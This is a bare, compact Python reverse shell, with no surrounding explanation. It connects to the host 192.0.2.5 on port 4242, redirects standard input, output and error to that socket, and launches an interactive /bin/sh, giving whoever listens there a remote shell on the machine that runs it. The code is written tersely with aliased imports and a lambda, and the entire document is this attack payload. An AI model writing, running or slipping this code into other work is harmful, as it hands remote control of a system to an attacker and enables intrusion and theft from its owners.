import socket as S,os as O
x=S.socket();x.connect(('192.0.2.5',4242))
list(map(lambda f:O.dup2(x.fileno(),f),range(3)))
O.execl('/bin/sh','sh','-i')
